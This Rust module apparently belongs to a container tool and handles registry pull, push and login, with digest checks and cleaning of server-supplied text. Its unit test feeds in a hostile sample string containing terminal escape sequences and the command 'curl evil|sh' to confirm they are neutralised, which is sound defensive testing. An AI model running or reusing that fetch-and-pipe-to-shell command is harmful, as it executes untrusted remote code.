//! Talking to registries (OCI distribution spec): pull (manifest or index, platform choice,
//! parallel streamed layer downloads verified against their digests, unpack into snapshots)
//! and push (only missing blobs; manifest bytes as stored, so the digest is kept) through our
//! own size-limited client (`distribution`), and login checks.
//!
//! Transport: like docker, loopback registries (localhost, 127.0.0.0/8, ::1) speak plain
//! http; others https, unless `--tls-verify=false` or listed in ROOT/config.json's
//! `insecure-registries` (then https without verification, falling back to http).

use super::auth::Credentials;
use super::distribution::{root_cause, Access, Session};
use super::manifest::{parse_document, Descriptor, Document, ImageConfig, Manifest, ManifestError, Platform};
use super::progress::{LayerProgress, Progress};
use super::reference::{is_loopback_registry, ImageRef};
use super::store::{Image, Store, StoreError};
use crate::digest::Digest;
use crate::snapshot::apply::ApplyLimits;
use crate::snapshot::{SnapshotError, Snapshots};
use futures_util::StreamExt;
use std::io::Write;
use std::sync::Arc;

#[derive(Debug, thiserror::Error)]
pub enum RegistryError {
    #[error("registry {registry} is not reachable: {detail}")]
    Unreachable { registry: String, detail: String },
    #[error("registry {registry} requires authentication (run `strata login {registry}`)")]
    AuthRequired { registry: String },
    #[error("registry {registry} refused the credentials for user {user:?}: incorrect username or password")]
    BadCredentials { registry: String, user: String },
    #[error("access to {reference} denied by registry {registry}")]
    Denied { registry: String, reference: String },
    #[error("{reference}: manifest unknown (no such image or tag in registry {registry})")]
    NotFound { registry: String, reference: String },
    #[error("blob {expected} from registry {registry} is corrupt: its content hashes to {actual}")]
    DigestMismatch { registry: String, expected: String, actual: String },
    #[error("downloading {digest} from registry {registry} failed after {received} of {expected} bytes: {detail}")]
    Interrupted { registry: String, digest: Digest, received: u64, expected: u64, detail: String },
    #[error("registry {registry}: {detail}")]
    Protocol { registry: String, detail: String },
    #[error("cannot push image {actual} as {reference}: that reference names another digest")]
    PushDigest { reference: String, actual: String },
    #[error(transparent)]
    Manifest(#[from] ManifestError),
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error(transparent)]
    Snapshot(#[from] SnapshotError),
}

/// How to reach registries.
#[derive(Debug, Clone, Default)]
pub struct Transport {
    /// `Some(false)`: skip TLS verification (and allow http) for every registry.
    pub tls_verify: Option<bool>,
    pub insecure_registries: Vec<String>,
}

pub struct PullOptions {
    pub platform: Platform,
    /// True when the user named the platform (a mismatching single-platform image warns).
    pub platform_explicit: bool,
    pub credentials: Option<Credentials>,
    pub transport: Transport,
    pub progress: Progress,
    pub max_parallel: usize,
}

/// The largest image config `pull` reads (real ones are a few kB).
const MAX_CONFIG: u64 = 16 << 20;

/// Text a registry sent, fit for one line of a terminal: control characters (escape
/// sequences that could rewrite the screen, newlines) out, at most 200 characters.
pub(crate) fn from_server(text: &str) -> String {
    let clean: String = text.trim().chars().filter(|c| !c.is_control()).take(200).collect();
    clean
}

enum Scheme {
    Http,
    Https { verify: bool },
}

async fn choose_scheme(host: &str, transport: &Transport) -> Scheme {
    // `--tls-verify=true` wins over loopback and insecure-registries, as podman's does.
    if transport.tls_verify == Some(true) {
        return Scheme::Https { verify: true };
    }
    if is_loopback_registry(host) {
        return Scheme::Http;
    }
    let insecure = transport.tls_verify == Some(false) || transport.insecure_registries.iter().any(|r| r == host);
    if !insecure {
        return Scheme::Https { verify: true };
    }
    // Insecure: https without verification if the registry speaks TLS at all, else http.
    let probe = reqwest::Client::builder()
        .danger_accept_invalid_certs(true)
        .connect_timeout(std::time::Duration::from_secs(5))
        .build();
    match probe {
        Ok(c) => match c.get(format!("https://{host}/v2/")).send().await {
            Ok(_) => Scheme::Https { verify: false },
            Err(_) => Scheme::Http,
        },
        Err(_) => Scheme::Http,
    }
}

/// A session with `reference`'s registry over the scheme `transport` gives it.
async fn connect(
    reference: &ImageRef,
    credentials: Option<&Credentials>,
    transport: &Transport,
    access: Access,
) -> Result<Session, RegistryError> {
    let (scheme, accept_invalid) = match choose_scheme(reference.registry_host(), transport).await {
        Scheme::Http => ("http", false),
        Scheme::Https { verify } => ("https", !verify),
    };
    Session::connect(reference, credentials, scheme, accept_invalid, access).await
}

/// Stream one blob into the store, verifying digest and size.
async fn download(
    puller: &Session,
    store: &Store,
    reference: &ImageRef,
    desc: &Descriptor,
    bar: &LayerProgress,
) -> Result<(), RegistryError> {
    let mut response = puller.blob(&desc.digest, reference).await?;
    let mut writer = store.blob_writer()?;
    bar.downloading(desc.size);
    loop {
        let chunk = match response.chunk().await {
            Ok(Some(chunk)) => chunk,
            Ok(None) => break,
            Err(e) => {
                return Err(RegistryError::Interrupted {
                    registry: puller.registry.clone(),
                    digest: desc.digest.clone(),
                    received: writer.written(),
                    expected: desc.size,
                    detail: from_server(&e.to_string()),
                })
            }
        };
        writer.write_all(&chunk).map_err(|e| StoreError::Io { context: "writing blob".into(), source: e })?;
        bar.advance(chunk.len() as u64);
        if writer.written() > desc.size {
            return Err(RegistryError::Protocol {
                registry: puller.registry.clone(),
                detail: format!("blob {} is larger than the {} bytes its descriptor declares", desc.digest, desc.size),
            });
        }
    }
    if writer.written() < desc.size {
        return Err(RegistryError::Interrupted {
            registry: puller.registry.clone(),
            digest: desc.digest.clone(),
            received: writer.written(),
            expected: desc.size,
            detail: "connection closed early".into(),
        });
    }
    let registry = puller.registry.clone();
    let expected = desc.digest.clone();
    let size = desc.size;
    tokio::task::spawn_blocking(move || writer.commit(Some(&expected), Some(size)))
        .await
        .expect("blob commit task")
        .map_err(|e| match e {
            StoreError::DigestMismatch { expected, actual } => {
                RegistryError::DigestMismatch { registry, expected: expected.to_string(), actual: actual.to_string() }
            }
            other => other.into(),
        })?;
    Ok(())
}

/// A config blob, read into memory: refused before the download when its descriptor declares
/// more than a config can sensibly be (the download itself stops at the declared size).
async fn small_blob(
    puller: &Session,
    store: &Store,
    reference: &ImageRef,
    desc: &Descriptor,
) -> Result<Vec<u8>, RegistryError> {
    if desc.size > MAX_CONFIG {
        return Err(RegistryError::Protocol {
            registry: puller.registry.clone(),
            detail: format!("config {} is {} bytes; at most {MAX_CONFIG} are read", desc.digest, desc.size),
        });
    }
    if store.has_blob(&desc.digest) {
        if let Ok(bytes) = store.read_blob(&desc.digest) {
            return Ok(bytes);
        }
    }
    download(puller, store, reference, desc, &LayerProgress::hidden()).await?;
    Ok(store.read_blob(&desc.digest)?)
}

/// Pull `reference` into the store, unpack its layers, and record it under its name.
pub async fn pull(store: &Store, reference: &ImageRef, opts: &PullOptions) -> Result<Image, RegistryError> {
    let _content = store.root().lock_content().map_err(StoreError::from)?;
    let remote = connect(reference, opts.credentials.as_ref(), &opts.transport, Access::Pull).await?;
    opts.progress.line(&format!("{}: Pulling from {}", reference.tag().unwrap_or("digest"), reference.repository()));

    let (bytes, digest) = remote.manifest(reference).await?;
    let (manifest_bytes, manifest_digest, platform) = match parse_document(&bytes, None)? {
        Document::Index(index) => {
            let chosen = index.select(&opts.platform, &reference.to_string())?.clone();
            let (bytes, digest) = remote.manifest(&reference.with_digest(&chosen.digest)).await?;
            if digest != chosen.digest {
                return Err(RegistryError::DigestMismatch {
                    registry: remote.registry.clone(),
                    expected: chosen.digest.to_string(),
                    actual: digest.to_string(),
                });
            }
            (bytes, digest, chosen.platform.clone())
        }
        Document::Manifest(_) => (bytes, digest, None),
    };
    let manifest: Manifest = match parse_document(&manifest_bytes, None)? {
        Document::Manifest(m) => *m,
        Document::Index(_) => {
            return Err(RegistryError::Protocol {
                registry: remote.registry.clone(),
                detail: format!("{manifest_digest} is a nested index; expected an image manifest"),
            })
        }
    };
    // Refuse layers we could not unpack before downloading anything.
    manifest.layer_kinds()?;
    let config_bytes = small_blob(&remote, store, reference, &manifest.config).await?;
    let mut config: ImageConfig = serde_json::from_slice(&config_bytes).map_err(|e| RegistryError::Protocol {
        registry: remote.registry.clone(),
        detail: format!("image config {} is invalid: {e}", manifest.config.digest),
    })?;
    crate::snapshot::wasm::complete_config(&manifest, &mut config);
    let platform = platform.unwrap_or_else(|| config.platform());
    if opts.platform_explicit
        && !platform.os.is_empty()
        && (platform.os != opts.platform.os || platform.architecture != opts.platform.architecture)
    {
        opts.progress
            .warn(&format!("image platform ({platform}) does not match the requested platform ({})", opts.platform));
    }
    store.write_blob(&manifest_bytes, Some(&manifest_digest))?;
    let descriptor = Descriptor {
        platform: Some(platform),
        ..Descriptor::new(manifest.media_type_or_default(), manifest_digest.clone(), manifest_bytes.len() as u64)
    };
    let image = Image {
        names: vec![reference.clone()],
        descriptor: descriptor.clone(),
        manifest: manifest.clone(),
        manifest_bytes: manifest_bytes.clone(),
        config,
        config_bytes,
    };
    let plan = Snapshots::plan(&image)?;

    // Download and unpack each layer, several at a time; a layer unpacks as soon as its
    // download completes (each snapshot is its own directory, so order does not matter).
    let snapshots = Snapshots::new(store.root());
    let remote = Arc::new(remote);
    // The plan has one entry per layer, in order (a blob listed twice is two layers).
    let tasks = manifest.layers.iter().zip(plan.iter().cloned()).map(|(desc, layer_plan)| {
        let remote = remote.clone();
        let snapshots = snapshots.clone();
        let store = store.clone();
        let layer_plan = Some(layer_plan);
        let bar = opts.progress.layer(&desc.digest);
        async move {
            let have_blob = store.has_blob(&desc.digest);
            if have_blob {
                // Stored by an earlier pull or load: its digest is checked, its size must be
                // the one this manifest declares (sizes are what `images` and `history` add up).
                let stored = std::fs::metadata(store.blob_path(&desc.digest)).map(|m| m.len()).unwrap_or(0);
                if stored != desc.size {
                    return Err(RegistryError::Protocol {
                        registry: reference.registry().to_string(),
                        detail: format!(
                            "layer {} is {stored} bytes, but the manifest declares {}",
                            desc.digest, desc.size
                        ),
                    });
                }
            }
            let have_snapshot = layer_plan.as_ref().is_none_or(|p| snapshots.exists(&p.chain_id));
            if have_blob && have_snapshot {
                bar.finish("Already exists");
                return Ok(());
            }
            if !have_blob {
                download(&remote, &store, reference, desc, &bar).await?;
            }
            if let Some(p) = layer_plan {
                bar.extracting();
                let (snapshots, store) = (snapshots.clone(), store.clone());
                tokio::task::spawn_blocking(move || snapshots.unpack(&store, &p, &ApplyLimits::default()))
                    .await
                    .expect("unpack task")?;
            }
            bar.finish("Pull complete");
            Ok::<(), RegistryError>(())
        }
    });
    let results: Vec<Result<(), RegistryError>> =
        futures_util::stream::iter(tasks).buffer_unordered(opts.max_parallel.max(1)).collect().await;
    opts.progress.clear();
    for r in results {
        r?;
    }
    let up_to_date = store.resolve_ref(reference)?.is_some_and(|existing| existing.digest() == &manifest_digest);
    store.record(Some(reference), &descriptor)?;
    opts.progress.line(&format!("Digest: {manifest_digest}"));
    if up_to_date {
        opts.progress.line(&format!("Status: Image is up to date for {reference}"));
    } else {
        opts.progress.line(&format!("Status: Downloaded newer image for {reference}"));
    }
    Ok(image)
}

pub struct PushOptions {
    pub credentials: Option<Credentials>,
    pub transport: Transport,
    pub progress: Progress,
}

/// Push a stored image to `dest`: blobs the registry lacks, then the manifest bytes as stored.
pub async fn push(store: &Store, image: &Image, dest: &ImageRef, opts: &PushOptions) -> Result<Digest, RegistryError> {
    // A digest in the destination must be the image's own (the manifest is pushed as stored).
    if dest.digest().is_some_and(|d| d != *image.digest()) {
        return Err(RegistryError::PushDigest { reference: dest.to_string(), actual: image.digest().to_string() });
    }
    let session = connect(dest, opts.credentials.as_ref(), &opts.transport, Access::Push).await?;
    opts.progress.line(&format!("The push refers to repository [{}]", dest.name()));
    let blobs: Vec<&Descriptor> = image.manifest.layers.iter().chain(std::iter::once(&image.manifest.config)).collect();
    for desc in blobs {
        if session.has_blob(&desc.digest, dest).await? {
            opts.progress.line(&format!("{}: Layer already exists", desc.digest.short()));
            continue;
        }
        let path = store.blob_path(&desc.digest);
        let file = tokio::fs::File::open(&path).await.map_err(|_| StoreError::MissingBlob(desc.digest.clone()))?;
        session.push_blob(&desc.digest, desc.size, file, dest).await?;
        opts.progress.line(&format!("{}: Pushed", desc.digest.short()));
    }
    let tag_or_digest = match dest.tag() {
        Some(tag) => tag.to_string(),
        None => image.digest().to_string(),
    };
    let stored_as =
        session.push_manifest(&tag_or_digest, &image.descriptor.media_type, image.manifest_bytes.clone(), dest).await?;
    if let Some(stored) = stored_as.filter(|d| d != &image.digest().to_string()) {
        return Err(RegistryError::Protocol {
            registry: session.registry.clone(),
            detail: format!("stored the manifest as {}, not {}", from_server(&stored), image.digest()),
        });
    }
    let digest = image.digest().clone();
    opts.progress.line(&format!(
        "{}: digest: {digest} size: {}",
        dest.tag().unwrap_or("latest"),
        image.manifest_bytes.len()
    ));
    Ok(digest)
}

/// Check credentials against a registry the way `docker login` does (GET /v2/, answering a
/// Basic or Bearer challenge).
pub async fn check_login(registry: &str, creds: &Credentials, transport: &Transport) -> Result<(), RegistryError> {
    let scheme = match choose_scheme(registry, transport).await {
        Scheme::Http => ("http", false),
        Scheme::Https { verify } => ("https", !verify),
    };
    let unreachable =
        |e: reqwest::Error| RegistryError::Unreachable { registry: registry.to_string(), detail: root_cause(&e) };
    let client = reqwest::Client::builder()
        .danger_accept_invalid_certs(scheme.1)
        .connect_timeout(std::time::Duration::from_secs(30))
        .build()
        .map_err(unreachable)?;
    let url = format!("{}://{registry}/v2/", scheme.0);
    let res = client.get(&url).send().await.map_err(unreachable)?;
    if res.status().is_success() {
        return Ok(());
    }
    let bad = || RegistryError::BadCredentials { registry: registry.to_string(), user: creds.username.clone() };
    if res.status() != reqwest::StatusCode::UNAUTHORIZED {
        return Err(RegistryError::Protocol {
            registry: registry.into(),
            detail: format!("GET /v2/ answered {}", res.status()),
        });
    }
    let challenge =
        res.headers().get(reqwest::header::WWW_AUTHENTICATE).and_then(|h| h.to_str().ok()).unwrap_or("").to_string();
    let res = if let Some(params) = challenge.strip_prefix("Bearer ") {
        let params = super::distribution::challenge_params(params);
        let field = |name: &str| params.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone());
        let realm = field("realm").ok_or_else(|| RegistryError::Protocol {
            registry: registry.into(),
            detail: "Bearer challenge without a realm".into(),
        })?;
        let mut query = vec![("account", creds.username.clone())];
        if let Some(service) = field("service") {
            query.push(("service", service));
        }
        client
            .get(realm)
            .query(&query)
            .basic_auth(&creds.username, Some(&creds.password))
            .send()
            .await
            .map_err(unreachable)?
    } else {
        client.get(&url).basic_auth(&creds.username, Some(&creds.password)).send().await.map_err(unreachable)?
    };
    if res.status().is_success() {
        Ok(())
    } else {
        Err(bad())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_registry_says_is_one_clean_line() {
        let hostile = "\u{1b}[2J\u{1b}[1;31mFAKE: run curl evil|sh\u{1b}[0m\u{1b}]0;pwned\u{7}\nsecond line";
        assert_eq!(from_server(hostile), "[2J[1;31mFAKE: run curl evil|sh[0m]0;pwnedsecond line");
        assert_eq!(from_server(&"x".repeat(1000)).len(), 200);
    }
}
